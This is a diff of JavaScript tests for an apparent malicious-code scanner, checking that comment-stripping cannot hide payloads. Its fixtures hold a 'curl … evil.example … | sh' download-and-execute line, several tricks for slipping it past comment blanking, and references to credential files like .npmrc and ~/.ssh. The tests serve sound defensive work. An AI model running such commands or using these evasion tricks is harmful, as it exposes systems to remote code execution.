@@ -85,6 +85,32 @@ describe('ordinary install code stays quiet', () => {
   });
 });
 
+describe('comments are blanked only where the reading is certain (a trial hid payloads behind the blanking)', () => {
+  const curl = `require('child_process').execSync('curl -s http://evil.example/x | sh');`;
+  it.each([
+    ['a division read as a regular expression swallowed a quote, then a "/*" string opened a comment', `var a = 4, x = a / 2, y = "/"; var s = "/*";\n${curl}\nvar t = "*/";\n`],
+    ['an HTML-like comment and a backtick', `x = 1 <!-- \`\nvar s = "\`; /*";\n${curl}\nvar t = "*/";\n`],
+    ['past a hashbang line', `#!/usr/bin/env node\nconst n = 10, half = n / 2, sep = "/", c = "/*";\n${curl}\nconst end = "*/";\n`],
+    ['a division after a call', `const r = f(x) / 2, s = "/*";\n${curl}\nconst e = "*/";\n`],
+    ['a division after an index', `const r = a[0] / 2, s = "/*";\n${curl}\nconst e = "*/";\n`],
+  ])('JavaScript: %s', (_, text) => {
+    expect(blocks(js(text)), findings(js(text)).join('\n')).toContain('download-execute');
+  });
+  it.each([
+    ['a single quote spanning lines', `echo 'start\n#'; curl -s http://evil.example/x | sh`],
+    ['an escaped blank before #', 'echo x\\ #; curl -s http://evil.example/x | sh'],
+    ['a heredoc', 'sh <<EOF\necho a #\nEOF\ncurl -s http://evil.example/x | sh #'],
+  ])('shell: %s', (_, text) => {
+    expect(blocks(shell(text)), findings(shell(text)).join('\n')).toContain('download-execute');
+  });
+  it('a regular expression where JavaScript reads one (after if (…), =, return) is read as one: its "//" is no comment', () => {
+    const text = `if (ok) /\\/\\//.test(u);\nconst re = /https?:\\/\\//; // a comment about .npmrc\nfunction f() { return /x\\/\\/y/; }\n`;
+    const readable = readableText(js(text));
+    expect(readable).not.toContain('.npmrc');
+    expect(readable).toContain('/https?:\\/\\//');
+  });
+});
+
 describe('the text the rules read', () => {
   it('keeps every line and offset: comments become spaces, string pieces one literal', () => {
     const text = `const a = 'x' + 'y'; // .npmrc\n/* ~/.ssh/\n */ b('\\x41')`;
